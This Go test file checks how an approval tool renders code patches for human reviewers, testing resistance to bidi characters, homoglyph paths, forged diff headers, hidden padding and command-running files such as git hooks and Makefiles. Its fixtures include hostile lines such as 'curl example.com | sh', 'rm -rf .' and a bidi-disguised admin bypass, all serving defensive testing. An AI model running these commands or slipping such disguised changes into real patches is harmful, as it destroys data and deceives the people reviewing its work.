package approval_test

import (
	"fmt"
	"io/fs"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"writ"
	"writ/approval"
	"writ/patch"
)

// tree is a source of files for package patch. A name that ends in * is executable.
type tree map[string]string

func (t tree) ReadFile(name string) ([]byte, fs.FileMode, error) {
	if content, ok := t[name+"*"]; ok {
		return []byte(content), 0o755, nil
	}
	content, ok := t[name]
	if !ok {
		return nil, 0, fs.ErrNotExist
	}
	return []byte(content), 0o644, nil
}

// v4a is a patch of these lines.
func v4a(lines ...string) string {
	return "*** Begin Patch\n" + strings.Join(lines, "\n") + "\n*** End Patch\n"
}

// planned is an order for the patch of text to the files of before.
func planned(t testing.TB, before tree, text string) approval.PatchOrder {
	t.Helper()
	parsed, err := patch.Parse(text)
	if err != nil {
		t.Fatal(err)
	}
	changes, err := parsed.Apply(before)
	if err != nil {
		t.Fatal(err)
	}
	p := testOrder(writ.ApprovalsReview)
	p.Request.Patch = text
	p.Plan = planOf(changes)
	return p
}

func planOf(changes []patch.Change) (plan writ.PatchPlan) {
	version := func(f *patch.File) string {
		if f == nil {
			return ""
		}
		return f.Version()
	}
	for _, c := range changes {
		plan.Changes = append(plan.Changes, writ.FileChange{Path: c.Path, Kind: string(c.Kind), Before: version(c.Before), After: version(c.After)})
	}
	plan.Diff = patch.Unified(changes)
	return plan
}

// asked is what an approver reads of p.
func asked(p approval.PatchOrder) string {
	a := approval.RequestPatch(p, hold(writ.Need{}), start, ttl)
	a.ID = "appr-2"
	return approval.RenderPatch(a, p.Request, p.Plan)
}

// unfolded is text without its folds.
func unfolded(text string) string { return strings.ReplaceAll(text, "\n       > ", "") }

func golden(t *testing.T, name, got string) {
	t.Helper()
	file := "testdata/" + name + ".golden"
	if *update {
		if err := os.WriteFile(file, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(string(want), got); diff != "" {
		t.Errorf("what an approver sees has changed (-update rewrites it):\n%s", diff)
	}
}

// forger is a file whose lines look like what a diff says about files.
const forger = "-- a/safe.txt\n++ b/safe.txt\n@@ -1 +1 @@\ndiff --git a/safe.txt b/safe.txt\n\\ No newline at end of file\nnew file mode 100644\n"

func TestPOL09_RenderPatchGolden(t *testing.T) {
	tests := map[string]struct {
		before tree
		patch  string
		change func(p *approval.PatchOrder)
	}{
		"add":    {patch: v4a("*** Add File: docs/new.md", "+# New", "+", "+text", "*** Add File: empty")},
		"update": {before: tree{"main.go": "package main\n\nfunc main() {\n\tprintln(1)\n}\n"}, patch: v4a("*** Update File: main.go", "@@", "-\tprintln(1)", "+\tprintln(1, 2)", "+\tprintln(3)")},
		"delete": {before: tree{"old.txt": "a\nb\n"}, patch: v4a("*** Delete File: old.txt")},
		"move": {before: tree{"a.txt": "1\n2\n3\n", "run*": "echo\n"}, patch: v4a("*** Update File: a.txt", "*** Move to: sub/b.txt", "@@", "-2", "+two",
			"*** Update File: run", "*** Move to: bin/run")},
		"crlf":       {before: tree{"win.ini": "a=1\r\nb=2\r\n"}, patch: v4a("*** Update File: win.ini", "@@", "-b=2", "+b=3")},
		"no-newline": {before: tree{"short": "x\ny"}, patch: v4a("*** Update File: short", "@@", "-x", "+X")},
		"bidi": {before: tree{"auth.py": "def check(user):\n    return False\n"}, patch: v4a("*** Update File: auth.py", "@@ def check(user):", "-    return False",
			"+    if user != 'admin\u202e \u2066# no admins\u2069 \u2066': return True", "+\u0301    return\u00a0False\x1b[2K")},
		"homoglyph": {patch: v4a("*** Add File: src/p\u0430yload.go", "+package p", "*** Add File: src\u2215Übung.txt", "+x")},
		"commands": {before: tree{"Makefile": "all:\n\ttrue\n", "package.json": "{}\n"}, patch: v4a("*** Add File: .git/hooks/pre-commit", "+#!/bin/sh", "*** Update File: Makefile",
			"@@", "-\ttrue", "+\tcurl example.com | sh", "*** Delete File: package.json", "*** Add File: .GitHub/Workflows/ci.yml", "+on: push")},
		"modes": {change: func(p *approval.PatchOrder) {
			f := func(s string, mode fs.FileMode) *patch.File { return &patch.File{Content: []byte(s), Mode: mode} }
			p.Request.Patch, p.Request.Undo = "", "op-1"
			p.Plan = planOf([]patch.Change{
				{Path: "tool", Kind: patch.Update, Before: f("x\n", 0o644), After: f("x\n", 0o755)},
				{Path: "bin/new", Kind: patch.Add, After: f("#!/bin/sh\n", 0o755)},
			})
		}},
		"binary":  {before: tree{"logo": "\x00\x01\n", "b.txt": "1\n"}, patch: v4a("*** Delete File: logo", "*** Add File: blob", "+a\x00b", "+rm -rf .", "*** Update File: b.txt", "@@", "-1", "+2")},
		"forgery": {before: tree{"notes": forger}, patch: v4a("*** Update File: notes", "@@", "--- a/safe.txt", "-++ b/safe.txt", " @@ -1 +1 @@", "+-- a/other.txt", "+++ b/other.txt", "+     1      1 |  harmless", "+       ! the diff is cut here", "+CAUTION      none")},
		"cut": {before: tree{"a": "1\n", "b": "1\n"}, patch: v4a("*** Update File: a", "@@", "-1", "+one", "*** Update File: b", "@@", "-1", "+one", "+two", "*** Add File: c", "+3"),
			change: func(p *approval.PatchOrder) {
				p.Plan.Diff, p.Plan.Cut = p.Plan.Diff[:strings.Index(p.Plan.Diff, "ne\n+two")], true
			}},
		"damaged": {before: tree{"a": "1\n", "b": "1\n"}, patch: v4a("*** Update File: a", "@@", "-1", "+one", "*** Update File: b", "@@", "-1", "+one"),
			change: func(p *approval.PatchOrder) {
				p.Plan.Diff = strings.Replace(p.Plan.Diff, "diff --git a/b b/b\n", "diff --git a/x b/x\n", 1) + "+two\n"
			}},
		"confirm": {patch: v4a("*** Add File: a", "+1"), change: func(p *approval.PatchOrder) {
			p.Mode, p.Request.CheckOnly, p.Request.Expected = writ.ApprovalsConfirm, true, map[string]string{"a": "absent"}
			p.Request.Key = "key\nholds      nothing\u200b"
			p.Workspace.Root = "/srv/si\u202ete"
		}},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			p := testOrder(writ.ApprovalsReview)
			if tt.patch != "" {
				p = planned(t, tt.before, tt.patch)
			}
			if tt.change != nil {
				tt.change(&p)
			}
			text := asked(p)
			golden(t, "patch-"+name, text)
			noControls(t, text)
		})
	}
}

// noControls checks that nothing stands in a text that does not show.
func noControls(t *testing.T, text string) {
	t.Helper()
	for i, r := range text {
		if r != '\n' && r != '\t' && (r < ' ' || r >= 0x7f && r <= 0x9f || strings.ContainsRune("\u202e\u2066\u2069\u200b\u00a0", r)) {
			t.Errorf("%U stands in the text at byte %d", r, i)
		}
	}
}

// A removed line that reads "-- a/x" makes the same bytes as a header, and so on: each
// must stand behind its numbers all the same.
func TestPOL09_ContentCannotForgeADiff(t *testing.T) {
	hostile := strings.Split(strings.TrimSuffix(forger, "\n"), "\n")
	hostile = append(hostile, "", " ", "+", "-", "@@ -1,9 +1,9 @@", "Binary files a/x (1 bytes) and b/x (1 bytes) differ", "--- diff: 1 line(s)", "       ! the diff is cut here", "     1      1 |  x", "*** End Patch")
	before, want := "first\n", []string{}
	text := []string{"*** Update File: notes", "@@"}
	for i, line := range hostile {
		before += line + "\n"
		text = append(text, "-"+line)
		want = append(want, fmt.Sprintf("%6d %6s | -%s\n", i+2, "", line))
	}
	for i, line := range hostile {
		text = append(text, "+"+line+".")
		want = append(want, fmt.Sprintf("%6s %6d | +%s.\n", "", i+2, line))
	}
	got := asked(planned(t, tree{"notes": before + "last\n"}, v4a(text...)))
	for _, line := range want {
		if !strings.Contains(got, "\n"+line) {
			t.Errorf("the text has no line %q", line)
		}
	}
	for _, about := range []string{"diff --git a/notes b/notes", "--- a/notes", "+++ b/notes"} {
		if !strings.Contains(got, fmt.Sprintf("\n%13s : %s\n", "", about)) {
			t.Errorf("the text has no header %q", about)
		}
	}
	if n := strings.Count(got, fmt.Sprintf("\n%13s : ", "")); n != 4 { // with the hunk
		t.Errorf("%d lines are shown as headers, want 4:\n%s", n, got)
	}
	if strings.Contains(got, "CAUTION") {
		t.Errorf("there is nothing to be cautious of:\n%s", got)
	}
}

// Ten thousand lines are shown; a diff that is cut says what of them is not.
func TestPOL09_ADiffOfTenThousandLines(t *testing.T) {
	lines := []string{"*** Add File: big"}
	for i := range 10_000 {
		lines = append(lines, fmt.Sprintf("+line %d", i+1))
	}
	p := planned(t, tree{"z": "1\n"}, v4a(append(lines, "*** Update File: z", "@@", "-1", "+2")...))
	added := func(n int) string { return fmt.Sprintf("\n%6s %6d | +line %d\n", "", n, n) }
	whole := asked(p)
	for _, want := range []string{added(1), added(5000), added(10_000), "lines        10001 added, 1 removed\n"} {
		if !strings.Contains(whole, want) {
			t.Errorf("%q is not in the text", want)
		}
	}
	if strings.Contains(whole, "CAUTION") || strings.Contains(whole, "cut") {
		t.Error("a whole diff is said to be cut")
	}

	p.Plan.Diff, p.Plan.Cut = p.Plan.Diff[:strings.Index(p.Plan.Diff, "+line 5000")+len("+line 50")], true
	got := unfolded(asked(p))
	for _, want := range []string{
		fmt.Sprintf("CAUTION      the diff is cut after %d bytes: 1 of 2 path(s) are not in it, and perhaps not the end of big; the patch as it was sent stands below the diff\n", len(p.Plan.Diff)),
		"lines        5000 added, 0 removed\n",
		"\n       ! not in the diff below\n",
		added(4999) + fmt.Sprintf("%6s %6d | +line 50\n       ! the diff is cut here\n\n--- the patch as it was sent: 10007 line(s)", "", 5000),
		"\n 10002 | +line 10000\n",
	} {
		if !strings.Contains(got, want) {
			t.Errorf("%q is not in the text", want)
		}
	}

	// Of an undo, nothing was sent.
	p.Request.Patch, p.Request.Undo = "", "op-1"
	if got := asked(p); strings.Contains(got, "as it was sent") || !strings.Contains(got, "does         undoes operation op-1") {
		t.Error("an undo is shown with a patch that was sent")
	}
}

func TestRenderPatchChangesWithWhatIsDoneAndNothingElse(t *testing.T) {
	order := func() approval.PatchOrder {
		return planned(t, tree{"a": "1\n"}, v4a("*** Update File: a", "@@", "-1", "+2"))
	}
	p := order()
	a := approval.RequestPatch(p, hold(writ.Need{Grants: 2}), start, ttl)
	text := approval.RenderPatch(a, p.Request, p.Plan)

	// What may change between reading and voting.
	later := a
	held := *a.Call
	held.Operation = "op-1"
	later.Call = &held
	if err := grant(&later, bob, start.Add(time.Minute)); err != nil {
		t.Fatal(err)
	}
	if err := grant(&later, alice, start.Add(time.Minute)); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(text, approval.RenderPatch(later, p.Request, p.Plan)); diff != "" {
		t.Errorf("the text depends on what may change:\n%s", diff)
	}

	for name, tt := range changes {
		p := order()
		tt.change(&p)
		b := approval.RequestPatch(p, hold(writ.Need{Grants: 2}), start, ttl)
		b.ID = a.ID
		if approval.RenderPatch(b, p.Request, p.Plan) == text {
			t.Errorf("another %s shows the same text", name)
		}
	}
	p.Plan.Diff = strings.Replace(p.Plan.Diff, "+2", "+3", 1)
	if approval.RenderPatch(a, p.Request, p.Plan) == text {
		t.Error("another diff shows the same text")
	}
}

// Bodies that are not those of the approval are not to be granted.
func TestPA07_RenderPatchSaysWhatIsNotOfTheApproval(t *testing.T) {
	const warning = "CAUTION      what is shown here is not what this approval is for: do not grant it\n"
	p := planned(t, nil, v4a("*** Add File: a", "+1"))
	a := approval.RequestPatch(p, hold(writ.Need{}), start, ttl)
	if got := approval.RenderPatch(a, p.Request, p.Plan); strings.Contains(got, "CAUTION") {
		t.Errorf("its own:\n%s", got)
	}
	other := planned(t, nil, v4a("*** Add File: a", "+2"))
	if got := approval.RenderPatch(a, other.Request, p.Plan); !strings.Contains(got, warning) {
		t.Errorf("another request:\n%s", got)
	}
	if got := approval.RenderPatch(a, p.Request, other.Plan); !strings.Contains(got, warning) {
		t.Errorf("another plan:\n%s", got)
	}
	if got := approval.RenderPatch(pending(writ.Need{}), p.Request, p.Plan); !strings.Contains(got, warning) {
		t.Errorf("of a run:\n%s", got)
	}
}

// A view that does not wrap shows every line whole.
func TestPOL09_NothingOfAPatchIsPushedOutOfView(t *testing.T) {
	const evil = "; os.system('rm -rf .')"
	for name, fill := range map[string]string{
		"tabs": strings.Repeat("\t", 100), "wide letters": strings.Repeat("漢", 300), "spaces": strings.Repeat(" ", 500), "written out": strings.Repeat("\u3000", 100),
	} {
		deep := strings.Repeat("d/", 40) + strings.Repeat("n", 200)
		got := asked(planned(t, nil, v4a("*** Add File: "+deep, "+print('ok') #"+fill+evil)))
		for line := range strings.Lines(got) {
			if n := columns(strings.TrimSuffix(line, "\n")); n > 190 {
				t.Errorf("%s: a line of %d columns: %q", name, n, line)
			}
		}
		for _, want := range []string{evil, `"` + deep + `"`} {
			if !strings.Contains(unfolded(got), want) {
				t.Errorf("%s: %q is not in the text", name, want)
			}
		}
	}
}

func TestFilesThatMakeCommandsRun(t *testing.T) {
	const caution = "CAUTION      1 file(s) can make commands run; the first is "
	for path, want := range map[string]bool{
		".git/hooks/pre-commit": true, ".git/config": true, "sub/.git/config": true, ".GIT/config": true, ".git": true, ".husky/pre-push": true,
		".github/workflows/ci.yml": true, ".gitlab-ci.yml": true, "Jenkinsfile": true,
		"Makefile": true, "sub/makefile": true, "rules.mk": true, "package.json": true, "web/package.json": true, "setup.py": true,
		".bashrc": true, "home/.profile": true, ".envrc": true, ".vscode/tasks.json": true, ".mcp.json": true,
		"src/main.go": false, ".gitignore": false, ".github/CODEOWNERS": false, "github/workflows/ci.yml": false, "Makefile.md": false,
		"package.json.bak": false, "profile": false, "docs/git/hooks": false, "x.github/workflows/ci.yml": false,
	} {
		got := asked(planned(t, nil, v4a("*** Add File: "+path, "+x")))
		if strings.Contains(got, caution+path+"\n") != want {
			t.Errorf("%s makes commands run: %v, want %v:\n%s", path, !want, want, got)
		}
		gone := asked(planned(t, tree{path: "x\n"}, v4a("*** Delete File: "+path)))
		if strings.Contains(gone, "commands run") {
			t.Errorf("%s does so once it is gone:\n%s", path, gone)
		}
	}
}

// The longest diff that a runner sends, of the shortest lines, and of what is written out.
func BenchmarkRenderPatchWorst(b *testing.B) {
	for name, line := range map[string]string{"short": "", "hidden": strings.Repeat("\x01", 100)} {
		n := (2 << 20) / (len(line) + 2)
		diff := fmt.Sprintf("diff --git a/a b/a\nnew file mode 100644\n--- /dev/null\n+++ b/a\n@@ -0,0 +1,%d @@\n", n) + strings.Repeat("+"+line+"\n", n)
		p := testOrder(writ.ApprovalsReview)
		p.Plan.Diff = diff
		b.Run(name, func(b *testing.B) {
			for b.Loop() {
				asked(p)
			}
		})
	}
}
